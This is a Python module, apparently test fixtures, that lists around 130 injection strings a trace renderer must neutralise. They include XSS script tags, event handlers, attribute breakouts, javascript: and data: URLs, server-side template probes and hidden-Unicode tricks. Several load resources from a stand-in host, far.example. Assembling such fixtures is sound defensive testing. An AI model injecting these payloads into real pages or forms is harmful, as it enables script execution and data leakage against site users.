"""Texts that try to become something else than text: in a page, an attribute, a template, a style.

Every text field of a trace may hold any of them. None may change the elements of a page or their
attributes, start a script, or ask for anything from elsewhere.
"""

from __future__ import annotations

FAR = "//far.example/x"
"""Where a payload that worked would ask for something."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    f"<script src={FAR}></script>",
    f'<script src="https:{FAR}" async></script>',
    "<script>alert`1`</script>",
    "<script type=module>import '//far.example/x'</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<!--<script>--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></dd></dl></li></ol></section></main><script>alert(1)</script>",
)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<p onmouseover=alert(1)>here</p>",
    "<a onclick=alert(1)>here</a>",
    "<div onpointerenter=alert(1)>here</div>",
    "<style onload=alert(1)></style>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<x contenteditable onblur=alert(1)>lose me</x>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
)

ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "x onmouseover=alert(1)",
    '" id="main" class="word met',
    '" href="javascript:alert(1)',
    '"/><img src=x onerror=alert(1)><a title="',
    "` onmouseover=`alert(1)",
    '">\n<base href="//far.example/">',
    '" style="position:fixed;inset:0;background:red',
    '#" onclick="alert(1)',
    '" data-leak id="v0',
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='java&#115;cript:alert(1)'>here</a>",
    f"<a href=https:{FAR} ping=https:{FAR}>here</a>",
    "[here](javascript:alert(1))",
    f"![x](https:{FAR})",
)

FETCHES = (
    f"<img src=https:{FAR}>",
    f"<img srcset='https:{FAR} 2x'>",
    f"<link rel=stylesheet href=https:{FAR}>",
    f"<link rel=prefetch href=https:{FAR}>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<meta http-equiv=refresh content='0;url=https:{FAR}'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    f"<base href=https:{FAR}>",
    f"<iframe src=https:{FAR}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<embed src=https:{FAR}>",
    f"<object data=https:{FAR}></object>",
    f"<form action=https:{FAR}><button>Go</button></form>",
    f"<button formaction=https:{FAR}>Go</button>",
    f"<video poster=https:{FAR}></video>",
    f"<table background=https:{FAR}>",
    f"<portal src=https:{FAR}></portal>",
    f"<track src=https:{FAR}>",
)

STYLES = (
    "<style>*{display:none}</style>",
    f"<style>@import 'https:{FAR}';</style>",
    f"<p style='background:url(https:{FAR})'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    f"</style><style>body{{background:url(https:{FAR})}}</style>",
    "expression(alert(1))",
    f"';}}body{{background:url(https:{FAR})}}",
    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>",
)

DRAWINGS = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>here</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    f"<svg><use href=https:{FAR}#x /></svg>",
    f"<svg><image href=https:{FAR} /></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "</text></svg><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>here</math>",
)

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in [1] %}<b>{{ x }}</b>{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ story|safe }}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(title)s %s %d {0} {title}",
)

ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&quot; onmouseover=&quot;alert(1)",
    "&NewLine;&Tab;&colon;",
    "&",
    "<",
    "<!",
    "</",
    "<!-- never closed",
    "--><script>alert(1)</script><!--",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><head><title>x</title></head>",
    "]]>",
)

HIDDEN = (
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<b>\u2069",
    "\u200b<script\u200b>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b[31m<b>red</b>\x1b[0m",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "\x0c<img\x0csrc=x\x0conerror=alert(1)>",
    "\x08\x08\x08<b>\x7f",
    "\U000e0001\U000e003cb\U000e003e",
)

PAYLOADS = (
    *(*SCRIPTS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *FETCHES, *STYLES, *DRAWINGS),
    *(*TEMPLATES, *ENTITIES, *HIDDEN),
)
